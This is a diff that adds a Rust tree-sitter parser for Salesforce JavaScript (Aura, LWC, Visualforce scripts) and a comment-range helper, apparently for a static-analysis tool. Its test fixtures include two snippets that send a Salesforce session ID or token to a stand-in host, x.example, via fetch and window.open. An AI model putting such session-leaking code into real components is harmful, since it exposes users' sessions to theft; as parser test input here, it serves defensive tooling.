@@ -1,0 +1,64 @@
+//! JavaScript through tree-sitter (`tree-sitter-javascript`): Aura controllers and helpers, LWC
+//! modules, JavaScript static resources and Visualforce inline scripts. One parser per thread.
+
+use std::cell::RefCell;
+use std::sync::LazyLock;
+
+use tree_sitter::{Language, Parser, Tree};
+
+pub static LANGUAGE: LazyLock<Language> = LazyLock::new(|| tree_sitter_javascript::LANGUAGE.into());
+
+thread_local! {
+    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
+}
+
+/// Parses JavaScript; syntax errors become ERROR nodes (LWC decorators and class fields parse).
+pub fn parse(text: &str) -> Option<Tree> {
+    PARSER.with(|cell| {
+        let mut slot = cell.borrow_mut();
+        if slot.is_none() {
+            let mut parser = Parser::new();
+            parser.set_language(&LANGUAGE).ok()?;
+            *slot = Some(parser);
+        }
+        slot.as_mut()?.parse(text, None)
+    })
+}
+
+/// Byte ranges of every comment, for suppression directives.
+pub fn comments(tree: &Tree) -> Vec<std::ops::Range<usize>> {
+    let mut out = Vec::new();
+    let mut cursor = tree.walk();
+    loop {
+        let node = cursor.node();
+        if node.kind() == "comment" {
+            out.push(node.byte_range());
+        }
+        if cursor.goto_first_child() {
+            continue;
+        }
+        loop {
+            if cursor.goto_next_sibling() {
+                break;
+            }
+            if !cursor.goto_parent() {
+                return out;
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn parses_lwc_and_aura() {
+        let lwc = "import { LightningElement, wire } from 'lwc';\nimport getSid from '@salesforce/apex/OrgSession.sessionForLwc';\nexport default class X extends LightningElement {\n  @wire(getSid) sid;\n  async connectedCallback() { const s = await getSid(); fetch(`https://x.example/?s=${s}`); }\n}\n";
+        let tree = parse(lwc).expect("tree");
+        assert!(!tree.root_node().has_error(), "{}", tree.root_node().to_sexp());
+        let aura = "({\n  init: function (component, event, helper) {\n    var a = component.get('c.token');\n    a.setCallback(this, function (r) { window.open('https://x.example/?s=' + r.getReturnValue()); });\n    $A.enqueueAction(a);\n  }\n})\n";
+        let tree = parse(aura).expect("tree");
+        assert!(!tree.root_node().has_error());
+    }
+}
